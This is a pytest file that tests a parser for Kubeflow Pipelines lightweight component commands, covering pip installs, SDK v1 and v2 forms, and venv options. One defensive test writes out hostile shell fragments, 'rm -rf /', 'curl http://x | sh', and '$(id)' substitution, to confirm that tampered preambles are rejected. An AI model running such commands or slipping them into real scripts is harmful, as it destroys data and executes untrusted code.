"""Reading what Kubeflow's SDK makes of a Python component, in all its forms since 2.0."""

import json
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.kubeflow import HEAD, PROGRAM, SDK, component, preamble

from tuneline.execute.images.lightweight import Install, Lightweight, is_containerized, read

KFP = Install(("kfp==2.17.0", 'typing-extensions>=3.7.4,<5; python_version<"3.9"'), no_deps=True)
OLD_PROGRAM = (
    'program_path=$(mktemp -d)\nprintf "%s" "$0" > "$program_path/ephemeral_component.py"\n'
    "python3 -m kfp.components.executor_main                         --component_module_path"
    '                         "$program_path/ephemeral_component.py"                         "$@"\n'
)


def words(container: dict[str, Any]) -> list[str]:
    return [*container["command"], *container["args"]]


def test_a_component_is_its_source_its_packages_and_arguments_of_the_executor() -> None:
    found = read(words(component("f", "def f(): pass\n", "pandas>=2", "a[b]==1; python_version>'3.8'")))
    assert found is not None
    assert found.source == HEAD + "def f(): pass\n"
    assert found.args == ("--executor_input", "{{$}}", "--function_to_execute", "f")
    assert found.installs == (Install(("pandas>=2", "a[b]==1; python_version>'3.8'")), KFP)


def test_indexes_and_trusted_hosts_stay_with_their_install() -> None:
    options = "--index-url https://a/simple --extra-index-url https://b/simple --trusted-host a "
    found = read(words(component("f", "", "yapf", options=options)))
    assert found is not None
    assert found.installs[0].options == tuple(options.split())
    assert found.installs[1].options == tuple(options.split())
    assert found.installs[1].requirements == KFP.requirements


@pytest.mark.parametrize("packages", [(), ("yapf",)])
def test_an_environment_of_its_own_asks_for_the_same_packages(packages: tuple[str, ...]) -> None:
    assert read(words(component("f", "", *packages, venv=True))) == read(words(component("f", "", *packages)))


def test_an_sdk_of_2_0_has_its_executor_elsewhere_and_installs_dependencies() -> None:
    install = "python3 -m pip install --quiet     --no-warn-script-location 'pandas' 'kfp==2.0.1'"
    text = preamble().replace(preamble().split("CHECK=1 ")[1].split(" && ")[0], install)
    found = read(["sh", "-c", text, "sh", "-ec", OLD_PROGRAM, "source", "--executor_input", "{{$}}"])
    assert found is not None
    assert found.installs == (Install(("pandas", "kfp==2.0.1")),)


V1_PROGRAM = 'program_path=$(mktemp)\nprintf "%s" "$0" > "$program_path"\npython3 -u "$program_path" "$@"\n'


def v1_preamble(packages: str, again: str | None = None) -> str:
    pip = "PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet --no-warn-script-location "
    return f'({pip}{packages} || {pip}{packages if again is None else again} --user) && "$0" "$@"'


def test_a_function_of_sdk_v1_is_a_script_with_packages() -> None:
    program = ["sh", "-ec", V1_PROGRAM, "source", "--x", "1"]
    found = read(["sh", "-c", v1_preamble("'dill==0.3.4' 'pandas'"), *program])
    assert found == Lightweight("source", ("--x", "1"), (Install(("dill==0.3.4", "pandas")),), script=True)
    assert read(program) == replace(found, installs=())
    assert read(["sh", "-c", v1_preamble("'dill'", "'pandas'"), *program]) is None


def test_a_component_that_installs_nothing_has_no_preamble() -> None:
    found = read(["sh", "-ec", PROGRAM, "source", "--executor_input", "{{$}}"])
    assert found is not None
    assert found.installs == ()


def test_other_options_of_pip_are_kept_and_always_need_pip() -> None:
    found = read(words(component("f", "", "--pre", "yapf", "--find-links=/wheels")))
    assert found is not None
    assert found.installs[0] == Install(("yapf",), ("--pre", "--find-links=/wheels"), plain=False)


@pytest.mark.parametrize(
    "change",
    [
        ('"$0" "$@"', '"$0" "$@"; rm -rf /'),
        ("python3 -m pip", "curl http://x | sh && python3 -m pip"),
        ("'kfp==2.17.0'", "'kfp==2.17.0' $(id)"),
        ("'kfp==2.17.0'", "'kfp==2.17.0' `id`"),
        ("'kfp==2.17.0'", "'kfp==2.17.0' > /tmp/x"),
        ("ensurepip --user", "ensurepip"),
    ],
)
def test_a_preamble_that_does_anything_else_is_not_taken_for_one(change: tuple[str, str]) -> None:
    container = component("f", "def f(): pass\n")
    container["command"][2] = container["command"][2].replace(*change, 1)
    assert read(words(container)) is None


@pytest.mark.parametrize(
    "command", [[], ["sh"], ["sh", "-c", "echo"], ["sh", "-ec", "echo", "x"], ["python3", "x.py", "a", "b"]]
)
def test_other_commands_are_no_components(command: list[str]) -> None:
    assert read(command) is None


def test_a_component_whose_source_is_in_its_image_is_told_apart() -> None:
    assert is_containerized(["python3", "-m", "kfp.dsl.executor_main", "--executor_input", "{{$}}"])
    assert not is_containerized(words(component("f", "")))


@pytest.mark.slow
def test_every_option_of_the_sdk_is_read(tmp_path: Path) -> None:
    """One process, 1 s: the SDK compiles a component with each option there is."""
    (tmp_path / "all.py").write_text(_ALL)
    command = [SDK, "-W", "ignore", tmp_path / "all.py"]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    compiled = json.loads(done.stdout)
    found = {name: read(command) for name, command in compiled.items()}
    assert [name for name, each in found.items() if each is None] == ["target"]
    assert {
        name: tuple(i.requirements[0] for i in each.installs) for name, each in found.items() if each
    } == {
        "plain": ("kfp==2.17.0",),
        "packages": ("yapf", "kfp==2.17.0"),
        "venv": ("yapf", "kfp==2.17.0"),
        "index": ("yapf", "kfp==2.17.0"),
        "trusted": ("yapf", "kfp==2.17.0"),
        "alone": (),
        "path": ("git+https://github.com/kubeflow/pipelines@master",),
        "embedded": ("kfp==2.17.0",),
        "own": ("kfp==2.10.0",),
    }


_ALL = """
import json
from kfp import dsl, version

OPTIONS = {
    "plain": {},
    "packages": {"packages_to_install": ["yapf"]},
    "venv": {"packages_to_install": ["yapf"], "use_venv": True},
    "index": {"packages_to_install": ["yapf"], "pip_index_urls": ["https://a/s", "https://b/s"]},
    "trusted": {"packages_to_install": ["yapf"], "pip_index_urls": ["https://a"], "pip_trusted_hosts": ["a"]},
    "alone": {"install_kfp_package": False},
    "path": {"kfp_package_path": "git+https://github.com/kubeflow/pipelines@master"},
    "target": {"target_image": "registry/image"},
    "embedded": {"embedded_artifact_path": version.__file__},
    "own": {"packages_to_install": ["kfp==2.10.0"]},
}


def f(x: int) -> int:
    return x


def words(options):
    made = dsl.component(f, **options).component_spec.implementation.container
    return [*made.command, *made.args]


print(json.dumps({name: words(options) for name, options in OPTIONS.items()}))
"""
